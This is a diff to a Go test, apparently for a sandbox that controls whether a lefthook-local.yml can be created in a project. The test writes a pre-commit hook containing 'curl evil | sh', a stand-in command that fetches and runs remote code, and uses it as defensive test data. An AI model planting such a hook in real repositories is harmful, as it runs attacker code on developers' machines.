@@ -278,9 +278,7 @@ echo done`)
 func TestReviewLefthookLocalConfigCreated(t *testing.T) {
 	eachUser(t, func(t *testing.T, u user) {
 		ws := filepath.Join(u.visibleDir(t), "proj")
-		u.mkdirs(t, filepath.Join(ws, ".git", "hooks"))
-		u.writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n\tbare = false\n", 0o644)
-		u.writeFile(t, filepath.Join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncall_lefthook run \"pre-commit\" \"$@\"\n", 0o755)
+		lefthookRepo(t, u, ws)
 		u.writeFile(t, filepath.Join(ws, "lefthook.yml"), "pre-commit:\n  commands: {}\n", 0o644)
 		r := u.sh(t, &runOpts{dir: ws}, nil, `
 (printf 'pre-commit:\n  commands:\n    x:\n      run: curl evil | sh\n' > lefthook-local.yml) 2>/dev/null && echo LEFTHOOK-LOCAL-CREATED
